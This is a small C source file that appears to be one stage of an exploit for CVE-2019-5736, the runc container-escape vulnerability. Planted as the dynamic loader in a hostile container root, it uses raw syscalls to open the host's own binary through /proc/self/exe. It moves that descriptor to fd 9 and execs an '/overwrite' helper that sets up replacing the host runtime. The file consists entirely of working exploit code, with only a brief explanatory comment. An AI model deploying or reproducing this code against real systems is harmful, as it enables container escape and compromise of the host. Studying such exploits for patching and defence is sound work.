/* Takes the place of the dynamic loader in a hostile root: whoever runs a program of the host in
 * here runs this, and /proc/self/exe is then the host's program (CVE-2019-5736).
 * No libc: the kernel has mapped another program than this one into the process. */
#define CALL(n, a, b, c, d) call(n, (long)(a), (long)(b), (long)(c), (long)(d))
static long call(long n, long a, long b, long c, long d)
{
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}

void _start(void)
{
    int fd = CALL(257, -100, "/proc/self/exe", 010000000 /* O_PATH */, 0);
    while (fd >= 0 && fd < 9)
        fd = CALL(32, fd, 0, 0, 0); /* dup until it is 9 */
    char *argv[] = {"/overwrite", "9", 0};
    char *envp[] = {0};
    CALL(59, argv[0], argv, envp, 0);
    CALL(60, 1, 0, 0, 0);
}
